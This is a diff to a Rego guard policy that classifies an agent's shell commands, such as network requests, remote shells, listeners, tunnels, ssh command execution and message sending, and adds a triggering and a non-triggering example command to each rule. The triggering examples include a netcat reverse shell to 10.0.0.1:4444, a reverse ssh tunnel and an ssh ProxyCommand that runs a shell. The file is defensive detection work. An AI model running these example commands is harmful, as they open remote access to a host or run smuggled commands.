@@ -12,6 +12,8 @@ import data.guard.stage
 # custom:
 #   id: net.request
 #   remedy: use GET, or show a person what would be sent
+#   fires: 'curl -X POST https://api.example.com/v1/items'
+#   quiet: 'curl https://api.example.com/v1/items'
 hit contains {"id": "net.request", "tier": 2, "stage": s.id, "msg": msg} if {
 	some s in input.cmd.stages
 	s.name in {"curl", "wget", "http", "https", "xh"}
@@ -25,6 +27,8 @@ hit contains {"id": "net.request", "tier": 2, "stage": s.id, "msg": msg} if {
 # custom:
 #   id: net.remote_shell
 #   remedy: none
+#   fires: nc -e /bin/sh 10.0.0.1 4444
+#   quiet: nc -z 10.0.0.1 4444
 hit contains {"id": "net.remote_shell", "tier": 4, "stage": s.id, "msg": msg} if {
 	some s in input.cmd.stages
 	data.guard.tables.listeners[s.name]
@@ -38,6 +42,8 @@ hit contains {"id": "net.remote_shell", "tier": 4, "stage": s.id, "msg": msg} if
 # custom:
 #   id: net.listen
 #   remedy: bind a local server to 127.0.0.1
+#   fires: nc -l -p 4444
+#   quiet: nc -zv localhost 4444
 hit contains {"id": "net.listen", "tier": 2, "stage": s.id, "msg": msg} if {
 	some s in input.cmd.stages
 	data.guard.tables.listeners[s.name]
@@ -51,6 +57,8 @@ hit contains {"id": "net.listen", "tier": 2, "stage": s.id, "msg": msg} if {
 # custom:
 #   id: net.tunnel
 #   remedy: ask a person to open it
+#   fires: 'ssh -R 2222:localhost:22 web'
+#   quiet: ssh -V
 hit contains {"id": "net.tunnel", "tier": 3, "stage": s.id, "msg": msg} if {
 	some s in input.cmd.stages
 	_tunnels(s)
@@ -63,6 +71,8 @@ hit contains {"id": "net.tunnel", "tier": 3, "stage": s.id, "msg": msg} if {
 # custom:
 #   id: net.ssh_exec
 #   remedy: use a host from the ssh configuration
+#   fires: ssh -o ProxyCommand='sh -c id' host
+#   quiet: ssh -o ConnectTimeout=5 host
 hit contains {"id": "net.ssh_exec", "tier": 3, "stage": s.id, "msg": msg} if {
 	some s in input.cmd.stages
 	s.name in {"ssh", "scp", "sftp", "rsync"}
@@ -77,6 +87,8 @@ hit contains {"id": "net.ssh_exec", "tier": 3, "stage": s.id, "msg": msg} if {
 # custom:
 #   id: net.message
 #   remedy: show the text to a person first
+#   fires: send_message --platform telegram hi
+#   quiet: 'git commit -m ''mail: send hi'''
 hit contains {"id": "net.message", "tier": 2, "stage": s.id, "msg": msg} if {
 	some s in input.cmd.stages
 	s.name in {"send_message", "send-message", "sendmail", "mail", "mailx", "mutt", "msmtp", "swaks"}
